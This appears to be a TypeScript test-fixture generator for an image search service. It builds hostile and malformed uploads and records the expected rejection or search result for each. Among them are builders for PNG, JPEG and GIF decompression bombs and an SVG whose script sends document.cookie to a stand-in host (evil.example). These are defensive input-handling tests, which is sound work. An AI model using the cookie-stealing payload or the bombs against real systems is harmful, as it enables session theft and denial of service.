/**
 * The awkward files shoppers and shop owners hand Vitrine, generated once into .cache/test/bad-inputs (never in
 * git): broken files, disguised files, decompression bombs, formats a browser cannot read, and legitimate photos
 * in unusual encodings (CMYK, 16-bit, EXIF-rotated, animated, AVIF, 1×1, a 40 MB 35-megapixel photo). The unit
 * tests (CLI, indexer, fuzz) and the browser tests use the same files and expect the same outcome for each.
 */
import { existsSync, mkdirSync, readFileSync, renameSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { deflateSync } from 'node:zlib';
import sharp from 'sharp';
import { seededRandom } from '../../src/vectors/shared/random.js';
import { DEMO_IMAGES_DIR, QUERY_IMAGES_DIR, TEST_ROOT } from '../../src/index/node/sample-index.js';

/** Bump when a file below changes, so old copies are regenerated. */
const VERSION = 2;
export const BAD_INPUTS_DIR = join(TEST_ROOT, `bad-inputs-v${VERSION}`);

/** A test-catalog product (in the test index, Jeans) whose photo the good variants are made from. */
export const SOURCE_PRODUCT = '11244';
/** A query photo (900×1200 jeans) upscaled and roughened into the 40 MB photo. */
export const LARGE_SOURCE = '12333';

export type Expectation =
  /** Searched like the photo it was made from (`catalog`: SOURCE_PRODUCT, `query`: the LARGE_SOURCE query photo): same first product. */
  | { readonly outcome: 'like'; readonly source: 'catalog' | 'query' }
  /** Searched, whatever it finds (nothing in it to recognise). */
  | { readonly outcome: 'searched' }
  /** Refused with this reason. */
  | { readonly outcome: 'error'; readonly reason: RegExp };

export interface BadInput {
  readonly file: string;
  readonly what: string;
  readonly expect: Expectation;
}

const refused = (reason: RegExp): Expectation => ({ outcome: 'error', reason });
const DAMAGED = /the file is damaged or truncated/;

export const BAD_INPUTS: readonly BadInput[] = [
  { file: 'empty.jpg', what: 'zero-byte file', expect: refused(/the file is empty/) },
  { file: 'truncated.jpg', what: 'JPEG cut at 60 %', expect: refused(DAMAGED) },
  { file: 'truncated.png', what: 'PNG cut at 50 %', expect: refused(DAMAGED) },
  { file: 'random.jpg', what: 'random bytes named .jpg', expect: refused(/the file is not an image/) },
  { file: 'text.png', what: 'a text file named .png', expect: refused(/the file is not an image/) },
  { file: 'bomb.png', what: 'PNG decompression bomb, 20000×20000 (45 kB)', expect: refused(/20000×20000 pixels \(400 megapixels\)/) },
  { file: 'bomb.jpg', what: 'JPEG whose header claims 60000×60000', expect: refused(/60000×60000 pixels \(3600 megapixels\)/) },
  { file: 'bomb.gif', what: 'GIF with a 1×1 screen and a 30000×30000 frame', expect: refused(/30000×30000 pixels \(900 megapixels\)/) },
  { file: 'script.svg', what: 'SVG with a script', expect: refused(/vector drawing \(SVG\)/) },
  { file: 'script-svg.jpg', what: 'SVG with a script, named .jpg', expect: refused(/vector drawing \(SVG\)/) },
  { file: 'photo.heic', what: 'HEIC (iPhone)', expect: refused(/HEIC photos .* Most Compatible/) },
  { file: 'photo.tiff', what: 'TIFF', expect: refused(/TIFF files are not supported/) },
  { file: 'photo.avif', what: 'AVIF', expect: { outcome: 'like', source: 'catalog' } },
  { file: 'animated.gif', what: 'animated GIF (the photo, then a grey frame)', expect: { outcome: 'like', source: 'catalog' } },
  { file: 'cmyk.jpg', what: 'CMYK JPEG', expect: { outcome: 'like', source: 'catalog' } },
  { file: '16bit.png', what: '16-bit PNG', expect: { outcome: 'like', source: 'catalog' } },
  { file: 'exif-rotated.jpg', what: 'JPEG stored sideways with EXIF orientation 6', expect: { outcome: 'like', source: 'catalog' } },
  { file: 'webp-lossy.webp', what: 'lossy WebP', expect: { outcome: 'like', source: 'catalog' } },
  { file: '1x1.png', what: '1×1 PNG', expect: { outcome: 'searched' } },
  { file: 'large-40mb.jpg', what: '7000×5000 JPEG, 40 MB', expect: { outcome: 'like', source: 'query' } },
];

/** The sideways copy without its orientation tag: what a decoder that ignored EXIF would see. */
export const EXIF_CONTROL = 'exif-stripped.jpg';

function pngChunk(type: string, data: Uint8Array): Buffer {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const out = Buffer.alloc(12 + data.length);
  out.writeUInt32BE(data.length, 0);
  body.copy(out, 4);
  out.writeUInt32BE(crc32(body), 8 + data.length);
  return out;
}

function crc32(bytes: Uint8Array): number {
  let c = ~0;
  for (const b of bytes) {
    c ^= b;
    for (let k = 0; k < 8; k++) c = (c >>> 1) ^ (0xedb88320 & -(c & 1));
  }
  return ~c >>> 0;
}

/** 20000×20000 one-bit greyscale: 50 MB of zero rows deflate to ~50 kB; RGBA would be 1.6 GB. */
function pngBomb(): Buffer {
  const side = 20000;
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(side, 0);
  ihdr.writeUInt32BE(side, 4);
  ihdr[8] = 1; // bit depth
  ihdr[9] = 0; // greyscale
  const raw = Buffer.alloc((1 + side / 8) * side); // filter byte 0 + 2500 zero bytes per row
  return Buffer.concat([Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'), pngChunk('IHDR', ihdr), pngChunk('IDAT', deflateSync(raw, { level: 9 })), pngChunk('IEND', new Uint8Array())]);
}

/** A real small JPEG whose frame header is rewritten to claim 60000×60000. */
function jpegBomb(jpeg: Buffer): Buffer {
  const out = Buffer.from(jpeg);
  for (let i = 2; i < out.length; ) {
    const marker = out[i + 1]!;
    const length = out.readUInt16BE(i + 2);
    if (marker >= 0xc0 && marker <= 0xc2) {
      out.writeUInt16BE(60000, i + 5);
      out.writeUInt16BE(60000, i + 7);
      return out;
    }
    i += 2 + length;
  }
  throw new Error('no frame header found');
}

/** GIF89a, a 1×1 logical screen, one 30000×30000 frame holding only a clear code and an end code. */
function gifBomb(): Buffer {
  const frame = Buffer.alloc(10);
  frame[0] = 0x2c;
  frame.writeUInt16LE(30000, 5);
  frame.writeUInt16LE(30000, 7);
  return Buffer.concat([
    Buffer.from('GIF89a', 'latin1'),
    Buffer.from([1, 0, 1, 0, 0x80, 0, 0]), // 1×1, global colour table of 2
    Buffer.from([0, 0, 0, 255, 255, 255]),
    frame,
    Buffer.from([2, 1, 0x2c, 0, 0x3b]), // LZW min code size 2, one sub-block [clear, end], terminator, trailer
  ]);
}

/** The container header of an iPhone photo (ftyp heic, mif1): what the sniffer judges. */
function heic(): Buffer {
  const ftyp = Buffer.concat([Buffer.from([0, 0, 0, 24]), Buffer.from('ftypheic', 'latin1'), Buffer.from([0, 0, 0, 0]), Buffer.from('mif1heic', 'latin1')]);
  return Buffer.concat([ftyp, Buffer.from([0, 0, 0, 8]), Buffer.from('mdat', 'latin1'), Buffer.alloc(512, 7)]);
}

const SVG = `<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" width="400" height="400"><script>fetch('https://evil.example/?'+document.cookie)</script>
<rect width="400" height="400" fill="navy"/></svg>`;

async function generate(dir: string): Promise<void> {
  const source = readFileSync(join(DEMO_IMAGES_DIR, `${SOURCE_PRODUCT}.jpg`));
  const write = (name: string, bytes: Uint8Array | string) => writeFileSync(join(dir, name), bytes);
  const random = seededRandom(6);

  write('empty.jpg', new Uint8Array());
  write('truncated.jpg', source.subarray(0, Math.floor(source.length * 0.6)));
  const png = await sharp(source).png().toBuffer();
  write('truncated.png', png.subarray(0, Math.floor(png.length / 2)));
  write('random.jpg', Uint8Array.from({ length: 50_000 }, () => Math.floor(random() * 256)));
  write('text.png', 'id,name\n1,not a picture\n'.repeat(50));
  write('bomb.png', pngBomb());
  write('bomb.jpg', jpegBomb(source));
  write('bomb.gif', gifBomb());
  write('script.svg', SVG);
  write('script-svg.jpg', SVG);
  write('photo.heic', heic());
  write('photo.tiff', await sharp(source).tiff().toBuffer());
  write('photo.avif', await sharp(source).avif({ quality: 90 }).toBuffer());
  const { data, info } = await sharp(source).ensureAlpha().raw().toBuffer({ resolveWithObject: true });
  const grey = Buffer.alloc(data.length, 128);
  write('animated.gif', await sharp(Buffer.concat([data, grey]), { raw: { width: info.width, height: info.height * 2, channels: 4, pageHeight: info.height } }).gif({ delay: [500, 500] }).toBuffer());
  write('cmyk.jpg', await sharp(source).toColourspace('cmyk').jpeg({ quality: 95 }).toBuffer());
  write('16bit.png', await sharp(source).toColourspace('rgb16').png().toBuffer());
  // Stored turned a quarter left; orientation 6 tells a viewer to turn it a quarter right to show it upright.
  const sideways = sharp(source).rotate(270).jpeg({ quality: 95 });
  write('exif-rotated.jpg', await sideways.clone().withMetadata({ orientation: 6 }).toBuffer());
  write(EXIF_CONTROL, await sideways.clone().toBuffer());
  write('webp-lossy.webp', await sharp(source).webp({ quality: 90 }).toBuffer());
  write('1x1.png', await sharp({ create: { width: 1, height: 1, channels: 3, background: '#c33' } }).png().toBuffer());

  // 7000×5000 from a 900×1200 query photo, with fine grain so it weighs what a camera's 35 MP JPEG does.
  const large = await sharp(join(QUERY_IMAGES_DIR, `${LARGE_SOURCE}.jpg`)).resize(7000, 5000, { fit: 'fill' }).raw().toBuffer({ resolveWithObject: true });
  const pixels = large.data;
  let seed = 1;
  for (let i = 0; i < pixels.length; i++) {
    seed = (seed * 1103515245 + 12345) >>> 0;
    pixels[i] = Math.max(0, Math.min(255, pixels[i]! + ((seed >>> 24) % 21) - 10));
  }
  write('large-40mb.jpg', await sharp(pixels, { raw: large.info }).jpeg({ quality: 99, chromaSubsampling: '4:4:4' }).toBuffer());
}

/** Generates the files once (a few seconds, mostly the 40 MB photo); later calls reuse them. */
export async function ensureBadInputs(): Promise<string> {
  if (existsSync(join(BAD_INPUTS_DIR, 'complete'))) return BAD_INPUTS_DIR;
  const staging = `${BAD_INPUTS_DIR}.staging-${process.pid}`;
  rmSync(staging, { recursive: true, force: true });
  mkdirSync(staging, { recursive: true });
  await generate(staging);
  writeFileSync(join(staging, 'complete'), '');
  rmSync(BAD_INPUTS_DIR, { recursive: true, force: true });
  renameSync(staging, BAD_INPUTS_DIR);
  return BAD_INPUTS_DIR;
}

export const badInputPath = (file: string) => join(BAD_INPUTS_DIR, file);
